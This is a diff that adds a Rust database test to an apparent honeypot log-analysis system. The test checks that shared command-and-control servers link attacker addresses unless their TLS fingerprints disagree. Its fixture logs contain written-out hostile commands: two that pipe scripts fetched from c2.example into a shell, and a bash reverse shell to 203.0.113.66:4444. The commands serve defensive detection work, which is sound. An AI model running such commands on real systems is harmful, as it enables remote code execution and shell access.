@@ -626,3 +626,23 @@ fn retention_drops_partitions_and_keeps_derived_rows() {
     // nothing else goes: a cutoff before every partition drops nothing
     assert_eq!(one::<i64>("SELECT count(*) FROM decnet.drop_logs_before('2000-01-01')"), Some(0));
 }
+
+// G.4 high tier: a shared C2 server links two addresses, unless their fingerprints all disagree (the veto)
+#[pg_test]
+fn shared_c2_links_unless_vetoed() {
+    migrate();
+    let cmd = |ip: &str, c: &str| format!(r#"('<134>1 2026-05-01T00:00:01+00:00 decky-01 bash - command [relay@55555 src_ip="{ip}" command="{c}"]')"#);
+    let hello = |ip: &str, ja3: &str| format!(r#"('<134>1 2026-05-01T00:00:02+00:00 decky-01 sniffer - tls_client_hello [relay@55555 src_ip="{ip}" dst_port="443" ja3="{ja3}"]')"#);
+    insert(&[
+        cmd("6.6.6.1", "wget http://c2.example/a.sh -O- | sh"),
+        cmd("6.6.6.2", "curl -s http://C2.example:80/b.sh | bash"),
+        cmd("6.6.7.1", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"),
+        cmd("6.6.7.2", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"),
+        hello("6.6.7.1", "ja3-one"),
+        hello("6.6.7.2", "ja3-two"),
+    ]);
+    Spi::run("SELECT * FROM decnet.rollup()").unwrap();
+    assert_eq!(one::<Vec<String>>("SELECT decnet.c2_endpoints('wget http://c2.example/a.sh')"), Some(vec!["c2.example:80".to_string()]));
+    assert_eq!(one::<bool>("SELECT decnet.identity_of('6.6.6.1') = decnet.identity_of('6.6.6.2')"), Some(true));
+    assert_eq!(one::<bool>("SELECT decnet.identity_of('6.6.7.1') = decnet.identity_of('6.6.7.2')"), Some(false), "different JA3s veto the shared C2");
+}
